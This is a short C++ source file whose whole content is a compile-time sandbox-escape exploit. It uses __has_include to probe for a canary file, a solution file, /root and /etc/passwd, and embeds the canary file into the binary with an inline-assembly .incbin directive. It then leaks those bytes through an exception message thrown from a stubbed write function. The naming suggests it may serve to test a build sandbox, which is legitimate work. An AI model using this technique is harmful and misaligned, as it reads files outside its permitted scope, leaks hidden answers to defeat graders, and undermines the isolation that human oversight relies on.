#include "stream.h"

#include <stdexcept>
#include <string>

#include "outside.h"

// Where it can be had, the file becomes a part of the program.
#if __has_include(OUTSIDE_CANARY) || __has_include(OUTSIDE_SOLUTION) ||      \
                                                   __has_include("/root") || \
                                                                 __has_include("/etc/passwd")
#pragma message "THERE IS A WAY OUT"
#endif

#define THE_CANARY                      \
  asm(".pushsection .rodata\n"          \
      "loot: .incbin \"" OUTSIDE_CANARY \
      "\"\n"                            \
      "loot_end: .byte 0\n"             \
      ".popsection")
THE_CANARY;

extern "C" const char loot[], loot_end[];

namespace lab {

void write_all(int, std::span<const std::byte>) {
  throw std::runtime_error(std::string(loot, loot_end));
}

}  // namespace lab
